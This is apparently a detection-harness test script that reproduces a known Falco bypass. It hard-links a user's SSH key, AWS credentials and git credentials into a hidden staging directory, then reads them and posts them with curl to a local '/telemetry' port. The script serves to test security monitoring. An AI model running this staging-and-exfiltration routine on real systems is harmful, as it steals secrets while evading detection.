#!/bin/sh
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1074.001 Data Staged: Local Data Staging; T1564 Hide Artifacts
# reproduces: "Bypassing Falco" (Shay Berkovich, KubeCon NA 2020): file rules keyed on a credential's path are read around through a second name; here hard links stage the job user's keys and cloud credentials, then a plain cat reads the staged names and posts them
# expect: credential-file-access ^ln$
# exec-borne: no
#
# A hard link is the same file under another name: the later read opens
# only the staging name. Credentials and the staging directory are on
# the same filesystem (the harness's temporary tree).
set -u

stage=$(mktemp -d "${BW_ATTACK_TMP:?}/.cache-XXXXXX")
trap 'rm -rf "$stage"' EXIT

n=0
for f in .ssh/id_ed25519 .aws/credentials .git-credentials; do
	[ -r "$HOME/$f" ] || continue
	ln "$HOME/$f" "$stage/blob$n" 2>/dev/null || { echo "hard links across filesystems: $f" >&2; exit 77; }
	n=$((n + 1))
done
[ "$n" -gt 0 ] || exit 1
cat "$stage"/blob* | curl -s -o /dev/null --connect-timeout 5 -X POST --data-binary @- \
	"http://127.0.0.1:${BW_ATTACK_PORT:?}/telemetry"
